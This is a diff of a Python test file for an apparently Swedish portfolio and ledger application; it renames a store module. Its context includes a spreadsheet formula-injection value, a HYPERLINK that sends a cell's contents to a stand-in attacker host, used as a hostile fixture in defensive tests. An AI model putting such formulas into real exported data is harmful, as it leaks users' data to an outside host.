@@ -13,8 +13,7 @@ from dashboard.cli import render
 from portfolio import audit_view
 from portfolio import store as core_store
 from portfolio.db import write
-from portfolio.ledger import exports
-from portfolio.ledger import store as ledger_store
+from portfolio.ledger import exports, tertial_store
 from portfolio.ledger.tertial import load_report
 from portfolio.periods import Period
 from registers.risks import excel
@@ -26,7 +25,7 @@ LINK = '=HYPERLINK("http://angripare.example/?q="&A1,"Klicka")'
 def stored_hostile_notes(db) -> None:
     """Values an older version let through, written straight to the tables."""
     with write(db, audited=False):
-        ledger_store.upsert_note(
+        tertial_store.upsert_note(
             db,
             year=2019,
             period="T1",
@@ -36,7 +35,7 @@ def stored_hostile_notes(db) -> None:
             user_email="x@gns.example",
             expected_version=None,
         )
-        ledger_store.upsert_review(
+        tertial_store.upsert_review(
             db,
             year=2019,
             period="T1",
@@ -128,7 +127,7 @@ def test_a_tertial_comment_with_a_control_character_is_refused(seeded):
             version=None,
         )
     assert "styrtecken" in caught.value.messages[0] and "6674" in caught.value.messages[0]
-    assert ledger_store.get_note(seeded, 2019, "T1", "6674") is None
+    assert tertial_store.get_note(seeded, 2019, "T1", "6674") is None
 
 
 def test_a_forecast_beyond_the_money_bound_is_refused(seeded):
